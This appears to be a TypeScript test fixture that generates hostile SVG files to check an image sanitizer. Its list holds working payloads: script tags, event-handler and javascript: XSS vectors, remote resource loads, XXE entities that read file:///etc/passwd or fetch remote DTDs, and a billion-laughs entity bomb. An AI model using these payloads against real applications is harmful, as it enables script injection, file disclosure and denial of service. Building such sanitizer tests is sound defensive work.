/** Malicious SVG drawings: each would run a script or request something from `far` if shown unmodified. */
export function hostileDrawings(far: string): string[] {
  const run = `fetch('${far}/ran')`
  const inside = [
    `<script>${run}</script>`,
    `<script href="${far}/a.js"/>`,
    `<script xlink:href="data:text/javascript,${run}"/>`,
    `<script><![CDATA[${run}]]></script>`,
    `<g><script type="module">${run}</script></g>`,
    `<rect width="9" height="9" onclick="${run}"/>`,
    `<rect width="9" height="9" onfocus="${run}" tabindex="0" autofocus=""/>`,
    `<image href="x" onerror="${run}"/>`,
    `<animate attributeName="x" dur="1s" onbegin="${run}"/>`,
    `<set attributeName="x" to="1" onend="${run}"/>`,
    `<a href="javascript:${run}"><rect width="9" height="9"/></a>`,
    `<a><animate attributeName="href" values="javascript:${run}"/><rect width="9" height="9"/></a>`,
    `<a xlink:href="data:text/html,&lt;script&gt;${run}&lt;/script&gt;"><rect width="9" height="9"/></a>`,
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject>`,
    `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${far}/page"/></foreignObject>`,
    `<foreignObject width="9" height="9"><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></foreignObject>`,
    `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${far}/1.png"/></foreignObject>`,
    `<image href="${far}/2.png" width="9" height="9"/>`,
    `<image xlink:href="${far}/3.svg" width="9" height="9"/>`,
    `<image href="file:///etc/passwd" width="9" height="9"/>`,
    `<image href="//${far.replace(/^https?:\/\//, '')}/4.png" width="9" height="9"/>`,
    `<use href="${far}/5.svg#a"/>`,
    `<use xlink:href="${far}/6.svg#a" width="9" height="9"/>`,
    `<feImage href="${far}/7.png"/>`,
    `<filter id="f"><feImage href="${far}/8.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    `<rect width="9" height="9" fill="url(${far}/9.svg#p)"/>`,
    `<rect width="9" height="9" style="fill:url('${far}/10.svg#p')"/>`,
    `<rect width="9" height="9" clip-path="url(${far}/11.svg#c)"/>`,
    `<rect width="9" height="9" mask="url(${far}/12.svg#m)"/>`,
    `<style>@import url(${far}/13.css);</style>`,
    `<style>@font-face{font-family:x;src:url(${far}/14.woff2)}text{font-family:x}</style><text y="9">a</text>`,
    `<style>rect{background:url(${far}/15.png)}</style><rect width="9" height="9"/>`,
    `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${far}/16.css"/>`,
    `<tref xlink:href="${far}/17.svg#t"/>`,
    `<text y="9"><textPath href="${far}/18.svg#t">a</textPath></text>`,
    `<mpath href="${far}/19.svg#p"/>`,
    `<color-profile name="x" xlink:href="${far}/20.icc"/>`,
  ]
  return [
    ...inside.map((part) => drawing(part)),
    drawing('', ` onload="${run}"`),
    drawing('<rect width="9" height="9"/>', '', `<?xml-stylesheet href="${far}/21.css"?>`),
    drawing('&a;', '', `<!DOCTYPE svg [<!ENTITY a SYSTEM "${far}/22.txt">]>`),
    drawing('&a;', '', `<!DOCTYPE svg [<!ENTITY % b SYSTEM "${far}/23.dtd">%b;]>`),
    drawing('', '', `<!DOCTYPE svg SYSTEM "${far}/24.dtd">`),
    drawing(
      '&c;',
      '',
      `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}"><!ENTITY c "${'&b;'.repeat(99)}">]>`,
    ),
  ]
}

const drawing = (inside: string, more = '', before = '') =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"${more}>${inside}</svg>`
